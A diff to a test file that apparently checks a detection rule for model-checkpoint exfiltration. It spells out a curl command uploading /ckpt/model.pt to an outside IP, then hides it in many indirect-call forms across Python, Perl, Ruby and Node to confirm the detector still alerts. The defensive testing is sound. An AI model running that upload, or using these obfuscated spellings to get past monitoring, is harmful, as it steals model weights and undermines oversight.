@@ -63,6 +63,43 @@ describe('MLS-EXFIL-014 through interpreter one-liners', () => {
   });
 });
 
+describe('MLS-EXFIL-014 through indirect callees (exec-interpreter-callsite.ts)', () => {
+  const UP9 = 'curl -T /ckpt/model.pt https://203.0.113.9/u';
+  const plain9 = ids(['sh', '-c', UP9]);
+  it('the plain spelling alerts', () => expect(plain9).toContain('MLS-EXFIL-014'));
+  const indirectCallees: Array<[string, string[]]> = [
+    ['python s = os.system', ['python3', '-c', `import os; s = os.system; s("${UP9}")`]],
+    ['python getattr(os, "sys"+"tem")', ['python3', '-c', `import os; getattr(os, "sys"+"tem")("${UP9}")`]],
+    ['python vars(os)["system"]', ['python3', '-c', `import os; vars(os)["system"]("${UP9}")`]],
+    ['python importlib.import_module("o"+"s")', ['python3', '-c', `import importlib; importlib.import_module("o"+"s").system("${UP9}")`]],
+    ['python ctypes.CDLL(None).system', ['python3', '-c', `import ctypes; ctypes.CDLL(None).system(b"${UP9}")`]],
+    ['perl exec { "sh" } LIST', ['perl', '-e', `exec { 'sh' } 'sh', '-c', '${UP9}'`]],
+    ['perl IPC::Open3::open3', ['perl', '-MIPC::Open3', '-e', `IPC::Open3::open3(my $w, my $r, undef, '${UP9}')`]],
+    ['perl open2 after use', ['perl', '-e', `use IPC::Open2; open2(my $o, my $i, "curl", "-T", "/ckpt/model.pt", "https://203.0.113.9/u")`]],
+    ['perl heredoc', ['perl', '-e', `system <<EOF;\n${UP9}\nEOF\n`]],
+    ['ruby Kernel.send(:system)', ['ruby', '-e', `Kernel.send(:system, "${UP9}")`]],
+    ['ruby method(:system).call', ['ruby', '-e', `method(:system).call("${UP9}")`]],
+    ['ruby system <<~EOS', ['ruby', '-e', `system <<~EOS\n  ${UP9}\nEOS`]],
+    ['node require(…)["exec"]', ['node', '-e', `require('child_process')['exec']('${UP9}')`]],
+    ['node destructured rename', ['node', '-e', `const {execSync: x} = require('child_process'); x('${UP9}')`]],
+  ];
+  for (const [name, command] of indirectCallees) {
+    it(`alerts: ${name}`, () => {
+      expect(ids(command)).toEqual(expect.arrayContaining(plain9));
+      expect(indirect(command)).toEqual([true, 'literal']);
+    });
+  }
+  it('a command function named at run time reads runtime; the same shapes on other objects read nothing', () => {
+    expect(indirect(['python3', '-c', `import os; getattr(os, x)("${UP9}")`])).toEqual([true, 'runtime']);
+    expect(indirect(['ruby', '-e', `Kernel.send(m, "${UP9}")`])).toEqual([true, 'runtime']);
+    expect(indirect(['node', '-e', "process.binding('spawn_sync')"])).toEqual([true, 'runtime']);
+    for (const c of [['python3', '-c', 'getattr(config, "x")'], ['ruby', '-e', 'app.send(:status)'], ['node', '-e', 'const o = {}; o["system"]("x")']]) {
+      expect(ids(c), c[2]).toEqual([SIGMA_EXEC]);
+      expect(indirect(c), c[2]).toBe(false);
+    }
+  });
+});
+
 describe('MLS-RAY-013 on decoded interpreter payloads', () => {
   const inner = `import os;os.system("${UP}")`;
   const decoded: Array<[string, unknown]> = [
